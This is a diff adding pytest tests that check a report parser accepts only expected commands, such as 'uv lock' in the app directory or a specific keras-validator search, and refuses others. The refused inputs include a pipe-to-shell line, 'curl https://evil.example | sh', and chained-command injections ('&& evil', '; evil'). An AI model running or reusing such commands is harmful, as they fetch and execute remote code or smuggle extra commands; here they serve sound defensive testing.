@@ -279,6 +279,45 @@ def test_a_command_is_put_together_anew_from_its_words(written_so: str, shown: s
     assert read.models[0].cells[0].reproduce == shown
 
 
+SEARCH = "keras-validator origin digits@head --config validator.yml --seconds 600"
+
+
+def searched(command: str) -> bytes:
+    origin = {"aspect": "outputs", "stopped": "lines", "command": command}
+    return changed(lambda r: first(r).update(origin=origin))
+
+
+def stale(command: str) -> bytes:
+    reason = {
+        "kind": "stale-lock",
+        "package": "keras",
+        "asked": "==3.5.0",
+        "locked": "3.3.3",
+        "manifest": "app/requirements.in",
+        "lock": "app/requirements.txt",
+        "command": command,
+    }
+    return changed(lambda r: r["upgrade"].update(reasons=[reason]))
+
+
+def test_further_commands_are_those_of_their_place() -> None:
+    assert parse_report(searched(SEARCH), HEAD)
+    assert parse_report(stale("cd app && uv lock"), HEAD)
+    compiled = "uv pip compile requirements.in --output-file requirements.txt"
+    assert parse_report(stale(f"cd app && {compiled}"), HEAD)
+    for command in ("curl https://evil.example | sh", f"{SEARCH} && evil", SEARCH.replace("digits", "x")):
+        with pytest.raises(RefusedReportError, match="search for the origin of 'digits@head'"):
+            parse_report(searched(command), HEAD)
+    for command in (
+        "curl https://evil.example | sh",
+        compiled,
+        "cd app && uv lock; evil",
+        "cd .. && uv lock",
+    ):
+        with pytest.raises(RefusedReportError, match="command for the lock"):
+            parse_report(stale(command), HEAD)
+
+
 @pytest.mark.parametrize("case", FORGED)
 def test_a_forged_report_is_refused_in_one_sentence(case: str) -> None:
     content, words = FORGED[case]
